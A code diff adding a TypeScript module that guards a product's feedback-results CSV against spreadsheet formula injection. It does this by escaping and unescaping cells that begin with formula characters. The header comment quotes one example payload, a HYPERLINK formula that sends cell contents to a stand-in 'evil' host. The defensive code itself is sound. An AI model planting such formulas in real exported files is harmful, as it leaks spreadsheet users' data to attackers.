@@ -1,0 +1,38 @@
+// Spreadsheet formula injection (OWASP "CSV Injection") in the per-item results CSV that Analyze Feedback writes.
+// Feedback text is untrusted: a cell starting with = + - @ (or a tab / carriage return) is a live formula when the
+// file is opened in Excel or LibreOffice (`=HYPERLINK("http://evil/?"&A1,"click")`), and harmless text such as
+// "+1 for dark mode" shows as #NAME?. The writer prefixes such a cell with an apostrophe, which spreadsheets read as
+// "this is text"; a cell that already starts with an apostrophe gets one more, so that dropping exactly one leading
+// apostrophe gives every cell back exactly. Readers drop it only in a file recognised as Product Forge's results (by
+// its header, RESULTS_CSV_COLUMNS), never in a user's own CSV, where a leading apostrophe is the customer's.
+
+/** The fixed first columns of a results CSV (src/core/analysis/writers.ts), in order: how such a file is recognised. */
+export const RESULTS_CSV_COLUMNS: readonly string[] = ['source', 'line', 'text', 'label', 'score', 'negative', 'neutral', 'positive'];
+
+/** First characters that make a spreadsheet read a cell as a formula. */
+const FORMULA_START = /^[=+\-@\t\r]/;
+/** A plain number ("-0.25", "+3", "1e-5"): no formula, and it must stay a number in the spreadsheet. */
+const PLAIN_NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;
+
+/** A cell as written to a results CSV: an apostrophe before a formula-like start or a leading apostrophe. */
+export function escapeFormula(cell: string): string {
+  if (cell.charCodeAt(0) === 39 /* ' */) return `'${cell}`;
+  return FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell) ? `'${cell}` : cell;
+}
+
+/** The cell escapeFormula was given: one leading apostrophe dropped (only for cells of a results CSV). */
+export function unescapeFormula(cell: string): string {
+  return cell.charCodeAt(0) === 39 ? cell.slice(1) : cell;
+}
+
+/** Drops one leading apostrophe from every cell of a row of a results CSV, in place; returns the row. */
+export function unescapeFormulaRow(cells: string[]): string[] {
+  for (let i = 0; i < cells.length; i++) if (cells[i].charCodeAt(0) === 39) cells[i] = cells[i].slice(1);
+  return cells;
+}
+
+/** Whether a header row is that of a results CSV Product Forge wrote (whose cells are escaped): its fixed columns first. */
+export function isResultsCsvHeader(header: readonly string[] | undefined): boolean {
+  if (!header || header.length < RESULTS_CSV_COLUMNS.length) return false;
+  return RESULTS_CSV_COLUMNS.every((name, i) => (i === 0 ? header[0].replace(/^\uFEFF/, '') : header[i]).trim() === name);
+}
